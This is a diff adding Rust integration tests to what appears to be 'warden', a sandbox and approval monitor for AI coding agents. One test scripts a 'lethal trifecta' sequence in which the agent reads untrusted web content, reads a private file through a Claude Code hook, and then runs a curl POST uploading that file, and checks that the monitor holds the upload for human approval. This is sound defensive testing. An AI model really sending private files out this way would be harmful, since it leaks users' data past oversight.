@@ -170,9 +170,12 @@ async fn the_box_hides_credentials_and_keeps_writes_to_the_workspace() {
     assert!(!Path::new("/etc/warden-run-test").exists());
 
     let environ = machine.read("got-environ");
-    for secret in [HARNESS, "sk-real-key", "ssh.sock", "WARDEN_TOKEN"] {
+    for secret in [HARNESS, "sk-real-key", "ssh.sock", "WARDEN_TOKEN_FILE"] {
         assert!(!environ.contains(secret), "{secret} inside: {environ}");
     }
+    // The gates inside ask through the run's door; their token is a marker.
+    assert!(environ.contains("WARDEN_TOKEN=warden-run\n"), "{environ}");
+    assert!(environ.contains("WARDEN_ENDPOINT=unix:/run/warden/sock/monitor.sock\n"), "{environ}");
     assert!(environ.contains("WARDEN_SESSION=box-1\n"), "{environ}");
     assert!(environ.contains("HTTPS_PROXY=http://127.0.0.1:3128\n"), "{environ}");
     assert!(environ.contains("SSL_CERT_FILE=/run/warden/ca-bundle.pem\n"), "{environ}");
@@ -306,5 +309,124 @@ async fn without_a_box_nothing_runs_and_the_refusal_says_why() {
     assert_eq!(out.status.code(), Some(1), "{stderr}");
     assert!(stderr.contains("bubblewrap") && stderr.contains("--no-sandbox"), "{stderr}");
     assert!(!machine.workspace().join("ran.txt").exists());
+    monitor.server.stop().await.unwrap();
+}
+
+/// The lethal trifecta across gates, as one session: untrusted web content
+/// read through the proxy, then a private file read through the coding
+/// agent's hook (`warden-hook`, asking through the run's door with no token,
+/// its event naming a session of its own), then an upload through the
+/// proxy: the upload waits for a person and never reaches the server.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn labels_gained_through_the_hook_hold_at_the_proxy() {
+    if !sandbox_or_skip() || !found_or_skip("curl") {
+        return;
+    }
+    let hook = Path::new(env!("CARGO_BIN_EXE_warden-run")).with_file_name("warden-hook");
+    if !hook.exists() {
+        assert!(std::env::var_os("WARDEN_REQUIRE_SANDBOX").is_none(), "{} is not built", hook.display());
+        println!("skipped: {} is not built (cargo build -p warden-hook)", hook.display());
+        return;
+    }
+    let machine = Machine::new();
+    let trifecta = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../policies/trifecta.cedar"));
+    let policies = format!(
+        r#"
+@id("files.read") @reason("files may be read") @label("private-data")
+permit (principal, action == Action::"fs.read", resource);
+@id("web.read") @reason("the web may be read") @label("untrusted-input")
+permit (principal, action == Action::"http.request", resource) when {{ ["GET", "HEAD"].contains(resource.method) }};
+@id("web.send") @reason("data may be sent")
+permit (principal, action == Action::"http.request", resource) when {{ resource.method == "POST" }};
+{}"#,
+        trifecta.unwrap()
+    );
+    let monitor = warden_tests::monitor::start_with_policies(
+        &policies,
+        vec![
+            CredentialConfig::for_token("run-harness", Role::Harness, HARNESS, &["*"]),
+            CredentialConfig::for_token("admin", Role::Admin, ADMIN, &[]),
+        ],
+    )
+    .await
+    .unwrap();
+    let (address, seen) = upstream().await;
+    let notes = machine.workspace().join("notes.txt");
+    let event = serde_json::json!({"session_id": "claude-session-9", "transcript_path": "/tmp/t.jsonl",
+        "cwd": machine.workspace(), "hook_event_name": "PreToolUse", "permission_mode": "default",
+        "tool_name": "Read", "tool_input": {"file_path": notes}, "tool_use_id": "toolu_1"});
+    std::fs::write(machine.workspace().join("event.json"), event.to_string()).unwrap();
+    let script = format!(
+        "curl -sS -m 10 http://{address}/page -o page.txt; \
+         '{}' claude-code < event.json > hook.json 2> hook-err.txt; \
+         curl -s -m 10 -X POST --data-binary @notes.txt http://{address}/upload -o upload.txt -w '%{{http_code}}' > upload-code.txt",
+        hook.display()
+    );
+    let command = machine.warden_run(&monitor.endpoint, &["--session", "trifecta-1", "--", "sh", "-c", &script]);
+    let out = output(command).await;
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+
+    assert_eq!(machine.read("page.txt"), "hello from upstream");
+    let hook_answer: serde_json::Value = serde_json::from_str(&machine.read("hook.json"))
+        .unwrap_or_else(|e| panic!("{e}: {} {}", machine.read("hook.json"), machine.read("hook-err.txt")));
+    assert_eq!(hook_answer["hookSpecificOutput"]["permissionDecision"], "allow", "{hook_answer}");
+    assert_eq!(machine.read("upload-code.txt"), "403");
+    let upload = machine.read("upload.txt");
+    assert!(upload.contains("trifecta.no-exfiltration") && upload.contains("PENDING"), "{upload}");
+    assert_eq!(*seen.lock().unwrap(), ["/page"], "the upload reached the server");
+
+    let decided = decisions(&monitor.endpoint).await;
+    let sessions: Vec<&str> = decided.iter().map(|(s, _, _)| s.as_str()).collect();
+    assert_eq!(sessions, ["trifecta-1"; 3], "{decided:?}");
+    assert!(decided[1].1.contains("notes.txt"), "the hook's read: {decided:?}");
+    assert_eq!(decided[2].2, pb::Outcome::Pending as i32, "{decided:?}");
+    monitor.server.stop().await.unwrap();
+}
+
+/// The run's door asks as the run's actor whatever a caller names, and lets
+/// a caller wait only on approvals it was handed there.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_run_s_door_pins_the_actor_and_its_approvals() {
+    let monitor = warden_tests::monitor::start_with_policies(
+        r#"@id("ask") @reason("a person decides") forbid (principal, action, resource) unless { context.approved };
+           @id("any") permit (principal, action, resource);"#,
+        vec![
+            CredentialConfig::for_token("run-harness", Role::Harness, HARNESS, &["*"]),
+            CredentialConfig::for_token("admin", Role::Admin, ADMIN, &[]),
+        ],
+    )
+    .await
+    .unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let socket = dir.path().join("monitor.sock");
+    let upstream = warden_sdk::Client::connect(monitor.endpoint.clone(), HARNESS).await.unwrap();
+    let run_actor = warden_sdk::Actor::new("alice", "claude-code", "run-7");
+    let listener = tokio::net::UnixListener::bind(&socket).unwrap();
+    tokio::spawn(warden_run::pin::serve(listener, warden_run::pin::Pin::new(upstream.clone(), run_actor)));
+
+    let inside =
+        warden_sdk::Client::connect(format!("unix:{}", socket.display()), warden_run::pin::MARKER_TOKEN).await.unwrap();
+    let bob = warden_sdk::Actor::new("bob", "other-agent", "not-the-run");
+    let pending = inside.authorize(&bob, warden_sdk::ActionRequest::read_file("/srv/x")).await.unwrap();
+    assert_eq!(pending.outcome, warden_sdk::Outcome::Pending);
+    let decided = decisions(&monitor.endpoint).await;
+    assert_eq!(decided.len(), 1);
+    assert_eq!(decided[0].0, "run-7", "{decided:?}");
+    // Its own approval may be awaited; another one, asked outside the
+    // door by the same harness credential, may not.
+    let waited = inside.await_decision(&pending.approval_id, Duration::from_millis(10)).await.unwrap();
+    assert_eq!(waited.outcome, warden_sdk::Outcome::Pending);
+    let outside = upstream
+        .authorize(
+            &warden_sdk::Actor::new("alice", "claude-code", "elsewhere"),
+            warden_sdk::ActionRequest::read_file("/srv/y"),
+        )
+        .await
+        .unwrap();
+    let refused = inside.await_decision(&outside.approval_id, Duration::from_millis(10)).await.unwrap_err();
+    assert!(
+        matches!(&refused, warden_sdk::Error::Status(s) if s.code() == tonic::Code::PermissionDenied),
+        "{refused:?}"
+    );
     monitor.server.stop().await.unwrap();
 }
